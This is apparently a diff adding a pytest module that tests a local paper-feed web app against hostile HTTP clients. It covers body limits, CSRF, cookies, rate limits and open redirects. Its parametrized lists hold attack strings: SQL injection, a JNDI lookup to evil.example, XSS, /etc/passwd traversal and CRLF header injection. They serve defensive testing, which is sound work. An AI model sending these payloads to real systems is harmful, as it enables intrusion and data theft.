@@ -1,0 +1,603 @@
+"""The app facing hostile or careless clients over real HTTP: oversized and odd bodies,
+injection characters in queries, ids and paths, security headers and cookies, CSRF, rate
+limits and open redirects. The real app runs on 127.0.0.1 over a catalog holding real Hugging
+Face daily lists."""
+
+from __future__ import annotations
+
+import contextlib
+import datetime as dt
+import os
+import re
+import socket
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from urllib.parse import quote, urljoin, urlsplit
+
+import httpx
+import pytest
+import sqlalchemy as sa
+from lxml import html
+
+from paperfeed.accounts.rate_limit import SIGN_IN
+from paperfeed.config import Settings
+from paperfeed.db.schema import comments, daily_papers, papers, users, votes
+from paperfeed.runtime import Runtime
+from tests.conftest import DATA, _postgres_database
+from tests.support.cli import Cli
+from tests.support.server import LiveServer, live_server
+
+HF_DAILY = DATA / "fixtures" / "hf_papers"
+PASSWORD = "correct horse battery staple"
+PAPER = "2606.13392"  # "MiniMax Sparse Attention", on the list of 2026-06-12
+
+
+@dataclass
+class Site:
+    runtime: Runtime
+    server: LiveServer
+
+    def client(self, **kwargs: object) -> httpx.Client:
+        return httpx.Client(base_url=self.server.url, timeout=30, **kwargs)  # type: ignore[arg-type]
+
+    def counts(self) -> dict[str, int]:
+        with self.runtime.engine.connect() as conn:
+            return {
+                table.name: conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
+                for table in (papers, daily_papers, users, votes, comments)
+            }
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    """One served catalog for the module. Rate limits are scaled up here so that the many
+    sign-ins of these tests are not refused; test_sign_in_is_rate_limited has its own app."""
+    if not DATA.is_dir():
+        pytest.skip(f"shared data not found at {DATA}")
+    home = tmp_path_factory.mktemp("hostile")
+    base = os.environ.get("PAPERFEED_TEST_DATABASE_URL")
+    databases = _postgres_database(base) if base else iter([None])
+    url = next(databases)
+    env = {"PAPERFEED_HOME": str(home), "PAPERFEED_DATABASE_URL": url, "PAPERFEED_CONFIG": None}
+    cli = Cli(env)
+    cli("import", "hf-daily", *sorted(HF_DAILY.glob("*.json")), "--no-progress")
+    runtime = Runtime(Settings(home=home, database_url=url, rate_limit_scale=100.0))
+    runtime.accounts.sign_up("reader@example.org", "reader", PASSWORD)
+    try:
+        with live_server(runtime) as server:
+            yield Site(runtime, server)
+    finally:
+        runtime.close()
+        for _ in databases:  # drops the PostgreSQL database
+            pass
+
+
+def csrf_token(client: httpx.Client, path: str = "/signin") -> str:
+    """The CSRF token a browser gets with a form page (its cookie stays in the client)."""
+    page = html.fromstring(client.get(path).text)
+    return str(page.xpath("//input[@name='csrf_token']/@value")[0])
+
+
+def sign_in(client: httpx.Client, next: str = "/") -> httpx.Response:
+    form = {"email": "reader@example.org", "password": PASSWORD, "next": next}
+    return client.post("/signin", data={**form, "csrf_token": csrf_token(client)})
+
+
+def raw_request(port: int, request: bytes) -> tuple[int, bytes]:
+    """Send bytes exactly as given (no client normalises the path or the framing); returns
+    the status and the whole answer."""
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
+        sock.sendall(request)
+        answer = b""
+        try:
+            while chunk := sock.recv(65536):
+                answer += chunk
+        except ConnectionResetError:
+            pass
+    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0
+    return status, answer
+
+
+# -- bodies ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["/signin", "/api/v1/submit", "/papers/2606.13392/comments"])
+def test_body_over_the_limit_by_content_length_is_413(site: Site, path: str) -> None:
+    limit = site.runtime.settings.max_body_bytes
+    with site.client() as client:
+        response = client.post(
+            path,
+            content=b"email=" + b"x" * limit,
+            headers={"Content-Type": "application/x-www-form-urlencoded"},
+        )
+    assert response.status_code == 413
+    assert response.text == "request body too large"
+
+
+@pytest.mark.parametrize("path", ["/signin", "/api/v1/submit", "/signup"])
+def test_chunked_body_over_the_limit_is_413(site: Site, path: str) -> None:
+    """No Content-Length: the app counts what arrives and stops at the limit."""
+    limit = site.runtime.settings.max_body_bytes
+
+    def chunks() -> Iterator[bytes]:
+        yield b"email="
+        for _ in range(limit // 4096 + 4):
+            yield b"x" * 4096
+
+    with site.client() as client:
+        response = client.post(
+            path, content=chunks(), headers={"Content-Type": "application/x-www-form-urlencoded"}
+        )
+    assert "content-length" not in response.request.headers
+    assert response.request.headers["transfer-encoding"] == "chunked"
+    assert response.status_code == 413
+
+
+def test_chunked_body_over_the_limit_on_a_raw_socket_is_413(site: Site) -> None:
+    limit = site.runtime.settings.max_body_bytes
+    chunk = b"x" * 8192
+    body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(limit // 8192 + 2))
+    status, _ = raw_request(
+        site.server.port,
+        b"POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
+        b"Content-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n\r\n"
+        + body
+        + b"0\r\n\r\n",
+    )
+    assert status == 413
+
+
+def test_body_under_the_limit_is_read(site: Site) -> None:
+    limit = site.runtime.settings.max_body_bytes
+    with site.client() as client:
+        token = csrf_token(client)
+        response = client.post(
+            "/signin",
+            data={"email": "x" * (limit - 1000), "password": "p", "csrf_token": token},
+        )
+    assert response.status_code == 400  # the email is too long, which the form says
+
+
+def test_non_numeric_content_length_is_refused(site: Site) -> None:
+    status, _ = raw_request(
+        site.server.port,
+        b"POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1e9\r\n"
+        b"Connection: close\r\n\r\n",
+    )
+    assert 400 <= status < 500
+
+
+def test_multipart_file_upload_to_a_form_is_refused_safely(site: Site) -> None:
+    before = site.counts()
+    with site.client() as client:
+        sign_in(client)
+        token = csrf_token(client, f"/papers/{PAPER}")
+        comment = client.post(
+            f"/papers/{PAPER}/comments",
+            data={"csrf_token": token},
+            files={"body": ("exploit.html", b"<script>alert(1)</script>", "text/html")},
+        )
+        submit = client.post(
+            "/submit",
+            data={"csrf_token": token},
+            files={"paper": ("id.txt", b"0704.0001", "text/plain")},
+        )
+        many_parts = client.post(
+            "/signin",
+            data={"csrf_token": token, **{f"f{i}": "x" for i in range(2000)}},
+            files={"upload": ("a.bin", b"\x00" * 100, "application/octet-stream")},
+        )
+        too_big = client.post(
+            "/signin",
+            data={"csrf_token": token},
+            files={"upload": ("big.bin", b"\x00" * site.runtime.settings.max_body_bytes)},
+        )
+    for response in (comment, submit, many_parts):
+        assert 400 <= response.status_code < 500, response.text[:300]
+    assert too_big.status_code == 413
+    assert site.counts() == before
+
+
+# -- injection characters -------------------------------------------------------------------
+
+HOSTILE = [
+    "'; DROP TABLE papers;--",
+    '" OR 1=1 --',
+    "\x00",
+    "a\x00b",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "<script>alert(1)</script>",
+    "量子 🤖 é ß ﬁ \u202e\u200b",
+    "x" * 10_000,
+    "AND",
+    "OR",
+    "NOT",
+    "-",
+    "+",
+    "*",
+    "?",
+    "~",
+    "^",
+    ":",
+    "cat:",
+    "title:",
+    '"',
+    '"unbalanced quote',
+    "(unbalanced",
+    "unbalanced)",
+    "[1 TO",
+    "{}",
+    "%s%n%x",
+    "${jndi:ldap://evil.example/a}",
+    "pf-9999999999999999",
+    "pf-１２",
+]
+HOSTILE_IDS = [f"#{i}" for i in range(len(HOSTILE))]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=HOSTILE_IDS)
+def test_hostile_queries_never_give_a_server_error(site: Site, text: str) -> None:
+    with site.client() as client:
+        answers = {
+            path: client.get(path, params={"q": text})
+            for path in (
+                "/search",
+                "/api/v1/search",
+                "/feeds/search.atom",
+                "/api/papers/search",
+            )
+        }
+        answers["/search (filters)"] = client.get(
+            "/search", params={"q": "attention", "cat": text[:40], "since": text[:10]}
+        )
+        answers["/api/v1/daily"] = client.get("/api/v1/daily", params={"date": text})
+        answers["/feeds/daily.atom"] = client.get("/feeds/daily.atom", params={"date": text})
+    for path, response in answers.items():
+        assert response.status_code < 500, (path, response.status_code, response.text[:300])
+        if response.headers["content-type"].startswith("text/html"):
+            assert "<script>alert(1)" not in response.text
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=HOSTILE_IDS)
+def test_hostile_ids_in_paths_are_not_found(site: Site, text: str) -> None:
+    with site.client() as client:
+        token = csrf_token(client)
+        for path in (
+            "/papers/{}",
+            "/api/v1/papers/{}",
+            "/api/v1/papers/{}/similar",
+            "/api/papers/{}",
+            "/papers/{}.md",
+            "/papers/date/{}",
+            "/papers/week/{}",
+            "/papers/month/{}",
+        ):
+            response = client.get(path.format(_quote_path(text)))
+            assert 400 <= response.status_code < 500, (path, response.status_code)
+        upvote = client.post(f"/papers/{_quote_path(text)}/upvote", data={"csrf_token": token})
+        assert 400 <= upvote.status_code < 500
+
+
+def _quote_path(text: str) -> str:
+    return quote(text, safe="")
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        b"/search?q=%ff%fe%00",
+        b"/api/v1/search?q=%C0%AF%ED%A0%80",
+        b"/feeds/search.atom?q=%ff",
+        b"/api/v1/papers/%ff%fe",
+        b"/papers/%C0%AE%C0%AE%C0%AF",
+        b"/api/v1/daily?date=%ff%ff",
+    ],
+)
+def test_invalid_utf8_in_queries_and_paths_is_no_server_error(site: Site, target: bytes) -> None:
+    status, _ = raw_request(
+        site.server.port,
+        b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
+    )
+    assert 200 <= status < 500
+
+
+def test_catalog_is_intact_after_hostile_requests(site: Site) -> None:
+    before = site.counts()
+    with site.client() as client:
+        for text in HOSTILE:
+            client.get("/api/v1/search", params={"q": text})
+            client.get(f"/api/v1/papers/{_quote_path(text)}")
+        daily = client.get("/api/v1/daily", params={"date": "2026-06-12"}).json()
+        paper = client.get(f"/api/v1/papers/{PAPER}").json()
+        search = client.get("/api/v1/search", params={"q": "MiniMax Sparse Attention"}).json()
+    assert site.counts() == before
+    assert before["papers"] == 63 and before["daily_papers"] == 63
+    assert len(daily["papers"]) == 30
+    assert paper["title"] == "MiniMax Sparse Attention"
+    assert search["results"][0]["id"] == PAPER
+
+
+@pytest.mark.parametrize(
+    ("path", "fields"),
+    [
+        ("/signin", {"email": "a\x00b@example.org", "password": "x"}),
+        ("/signup", {"email": "n\x00@example.org", "username": "nul", "password": PASSWORD}),
+        ("/signup", dict(email="f@x.org", username="f0", password=PASSWORD, fullname="\x00")),
+        ("/reset", {"email": "\x00@example.org"}),
+        ("/subscribe", {"email": "a\x00b@example.org"}),
+        ("/reset/a\x00b", {"password": PASSWORD}),
+        (f"/papers/{PAPER}/comments", {"body": "hello\x00world"}),
+        (f"/papers/{PAPER}/comments", {"body": "a reply", "parent": str(10**20)}),
+        ("/comments/100000000000000000000/hide", {}),
+        ("/account/tokens", {"name": "token\x00"}),
+        ("/submit", {"paper": "2606.13392\x00"}),
+    ],
+)
+def test_form_values_a_database_cannot_hold_are_refused(
+    site: Site, path: str, fields: dict[str, str]
+) -> None:
+    """NUL characters (PostgreSQL text cannot hold them) and integers beyond 64 bits are the
+    client's error: a 4xx, never a 500, and nothing is written."""
+    before = site.counts()
+    with site.client() as client:
+        sign_in(client)
+        token = csrf_token(client, f"/papers/{PAPER}")
+        response = client.post(quote(path, safe="/"), data={**fields, "csrf_token": token})
+    assert response.status_code < 500, response.text[:300]
+    if response.status_code >= 400:  # (SQLite can store a NUL, so it may be accepted there)
+        assert site.counts() == before
+
+
+@pytest.mark.parametrize(
+    "path", ["/subscribe/confirm/a%00b", "/unsubscribe/a%00b", "/reset/a%00b", "/api/v1/papers/%00"]
+)
+def test_nul_in_link_tokens_is_no_server_error(site: Site, path: str) -> None:
+    with site.client() as client:
+        response = client.get(path)
+    assert response.status_code < 500
+
+
+@pytest.mark.parametrize(
+    "raw_path",
+    [
+        b"/static/../../../../etc/passwd",
+        b"/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
+        b"/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+        b"/static/....//....//etc/passwd",
+        b"/static/..\\..\\..\\etc\\passwd",
+        b"/static/style.css%00.js",
+        b"/../../../etc/passwd",
+        b"/papers/../../etc/passwd",
+    ],
+)
+def test_path_traversal_reads_no_file(site: Site, raw_path: bytes) -> None:
+    status, answer = raw_request(
+        site.server.port,
+        b"GET " + raw_path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
+    )
+    assert 400 <= status < 500
+    assert b"root:" not in answer
+
+
+# -- headers and cookies -----------------------------------------------------------------------
+
+PAGES = ["/", "/papers/date/2026-06-12", "/trending", "/search?q=attention", f"/papers/{PAPER}"]
+
+
+@pytest.mark.parametrize("path", [*PAGES, "/signin", "/signup", "/submit", "/no-such-page"])
+def test_pages_have_a_content_security_policy_without_inline_scripts(site: Site, path: str) -> None:
+    with site.client() as client:
+        response = client.get(path)
+    assert response.headers["content-type"].startswith("text/html")
+    policy = _directives(response.headers["content-security-policy"])
+    scripts = policy.get("script-src", policy.get("default-src"))
+    assert scripts is not None and "'unsafe-inline'" not in scripts
+    assert "'unsafe-eval'" not in scripts and "*" not in scripts
+    assert policy["object-src"] == ["'none'"]
+    assert policy["frame-ancestors"] == ["'none'"]
+    assert response.headers["x-content-type-options"] == "nosniff"
+    # The page needs no inline script, so the policy does not break it.
+    page = html.fromstring(response.text)
+    for script in page.iter("script"):
+        assert script.get("src") and not (script.text or "").strip()
+    for element in page.iter():
+        handlers = [a for a in element.attrib if a.lower().startswith("on")]
+        assert not handlers, (element.tag, handlers)
+
+
+def _directives(header: str) -> dict[str, list[str]]:
+    parts = (directive.split() for directive in header.split(";") if directive.strip())
+    return {part[0].lower(): part[1:] for part in parts}
+
+
+def test_session_and_csrf_cookies_are_httponly_and_samesite_lax(site: Site) -> None:
+    with site.client() as client:
+        token = csrf_token(client, "/signup")
+        csrf_cookie = client.get("/signup").headers.get("set-cookie")
+        response = client.post(
+            "/signup",
+            data={
+                "email": "cookie@example.org",
+                "username": "cookie",
+                "password": PASSWORD,
+                "csrf_token": token,
+            },
+        )
+        assert response.status_code == 303
+        session = _set_cookie(response, "pf_session")
+        assert client.get("/account").status_code == 200
+    assert "httponly" in session and session.get("samesite") == "lax"
+    assert session.get("path") == "/"
+    assert "secure" not in session  # plain HTTP here; `secure_cookies` turns it on
+    with site.client() as fresh:
+        csrf = _set_cookie(fresh.get("/signin"), "pf_csrf")
+    assert "httponly" in csrf and csrf.get("samesite") == "lax"
+    assert csrf_cookie is None  # the client already had its CSRF cookie: no new one
+
+
+def _set_cookie(response: httpx.Response, name: str) -> dict[str, str]:
+    for header in response.headers.get_list("set-cookie"):
+        first, *attributes = [part.strip() for part in header.split(";")]
+        if first.startswith(f"{name}="):
+            parsed = {"value": first.split("=", 1)[1]}
+            for attribute in attributes:
+                key, _, value = attribute.partition("=")
+                parsed[key.lower()] = value.lower()
+            return parsed
+    raise AssertionError(f"no {name} cookie set: {response.headers.get_list('set-cookie')}")
+
+
+def test_secure_cookies_setting_marks_the_session_cookie_secure(site: Site) -> None:
+    settings = site.runtime.settings.model_copy(update={"secure_cookies": True})
+    runtime = Runtime(settings)
+    try:
+        with live_server(runtime) as server, httpx.Client(base_url=server.url) as client:
+            # A Secure cookie does not come back over plain HTTP, so the token is sent as a
+            # cookie header by hand.
+            page = client.get("/signin")
+            csrf = _set_cookie(page, "pf_csrf")
+            token = str(html.fromstring(page.text).xpath("//input[@name='csrf_token']/@value")[0])
+            response = client.post(
+                "/signin",
+                data={"email": "reader@example.org", "password": PASSWORD, "csrf_token": token},
+                headers={"Cookie": f"pf_csrf={csrf['value']}"},
+            )
+        assert "secure" in csrf
+        assert "secure" in _set_cookie(response, "pf_session")
+    finally:
+        runtime.close()
+
+
+# -- CSRF ---------------------------------------------------------------------------------------
+
+
+def test_form_post_without_csrf_token_is_403(site: Site) -> None:
+    with site.client() as client:
+        csrf_token(client)  # the cookie alone is not enough
+        response = client.post(
+            "/signin", data={"email": "reader@example.org", "password": PASSWORD}
+        )
+    assert response.status_code == 403
+    assert "pf_session" not in response.cookies
+
+
+def test_form_post_with_a_token_that_is_not_the_cookies_is_403(site: Site) -> None:
+    with site.client() as client, site.client() as attacker:
+        csrf_token(client)
+        forged = csrf_token(attacker)
+        response = client.post(
+            "/signin",
+            data={"email": "reader@example.org", "password": PASSWORD, "csrf_token": forged},
+        )
+    assert response.status_code == 403
+
+
+@pytest.mark.parametrize(
+    "origin", ["https://evil.example", "http://127.0.0.1.evil.example", "http://localhost:1"]
+)
+def test_form_post_from_a_foreign_origin_is_403(site: Site, origin: str) -> None:
+    with site.client() as client:
+        sign_in(client)
+        token = csrf_token(client, f"/papers/{PAPER}")
+        before = site.counts()
+        response = client.post(
+            f"/papers/{PAPER}/upvote", data={"csrf_token": token}, headers={"Origin": origin}
+        )
+        same_site = client.post(
+            f"/papers/{PAPER}/upvote",
+            data={"csrf_token": token, "up": "0"},
+            headers={"Origin": site.server.url},
+        )
+    assert response.status_code == 403
+    assert site.counts() == before
+    assert same_site.status_code == 303
+
+
+# -- rate limits ---------------------------------------------------------------------------------
+
+
+def _wait_for_a_fresh_window(window: dt.timedelta, needed: float = 20.0) -> None:
+    """The limits count in fixed windows; start a burst early enough in one."""
+    seconds = window.total_seconds()
+    into = time.time() % seconds
+    if seconds - into < needed:
+        time.sleep(seconds - into + 0.5)
+
+
+@pytest.mark.parametrize(("scale", "allowed"), [(1.0, 10), (0.3, 3)])
+def test_sign_in_is_rate_limited(settings: Settings, scale: float, allowed: int) -> None:
+    """The 11th sign-in attempt from one address within 5 minutes is refused with 429 and a
+    Retry-After (and `rate_limit_scale` scales the allowance). A fresh catalog of its own: the
+    counts are kept in the database."""
+    runtime = Runtime(settings.model_copy(update={"rate_limit_scale": scale}))
+    runtime.accounts.sign_up("victim@example.org", "victim", PASSWORD)
+    _wait_for_a_fresh_window(SIGN_IN.per)
+    with (
+        live_server(runtime) as server,
+        httpx.Client(base_url=server.url) as client,
+        contextlib.closing(runtime),
+    ):
+        token = csrf_token(client)
+        answers = [
+            client.post(
+                "/signin",
+                data={"email": f"guess{i}@example.org", "password": "wrong", "csrf_token": token},
+            )
+            for i in range(allowed)
+        ]
+        refused = client.post(
+            "/signin",
+            data={"email": "victim@example.org", "password": PASSWORD, "csrf_token": token},
+        )
+    assert [a.status_code for a in answers] == [400] * allowed
+    assert refused.status_code == 429
+    retry_after = int(refused.headers["retry-after"])
+    assert 0 < retry_after <= SIGN_IN.per.total_seconds()
+    assert "pf_session" not in refused.cookies
+
+
+# -- open redirects ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "//evil.example",
+        "https://evil.example",
+        "http://evil.example/papers",
+        "/\\evil.example",
+        "\\\\evil.example",
+        "///evil.example",
+        "javascript:alert(1)",
+        "/\t/evil.example",
+        "/\r\nLocation: https://evil.example",
+        "evil.example",
+    ],
+)
+def test_sign_in_does_not_redirect_off_site(site: Site, target: str) -> None:
+    with site.client() as client:
+        form = html.fromstring(client.get("/signin", params={"next": target}).text)
+        response = sign_in(client, next=target)
+    hidden = form.xpath("//input[@name='next']/@value")
+    assert hidden in ([], ["/"]) or _same_site(site, str(hidden[0]))
+    assert response.status_code == 303
+    location = response.headers["location"]
+    assert _same_site(site, location), location
+    assert "\r" not in location and "\n" not in location
+
+
+def test_sign_in_redirects_to_a_local_next(site: Site) -> None:
+    with site.client() as client:
+        response = sign_in(client, next=f"/papers/{PAPER}")
+    assert response.status_code == 303
+    assert urlsplit(response.headers["location"]).path == f"/papers/{PAPER}"
+
+
+def _same_site(site: Site, location: str) -> bool:
+    """Where a browser goes with this Location: this server, by the browser's own URL rules
+    (backslashes are slashes, tabs and newlines are dropped)."""
+    cleaned = re.sub(r"[\t\r\n]", "", location).replace("\\", "/")
+    resolved = urlsplit(urljoin(site.server.url + "/signin", cleaned))
+    return resolved.scheme == "http" and resolved.netloc == urlsplit(site.server.url).netloc
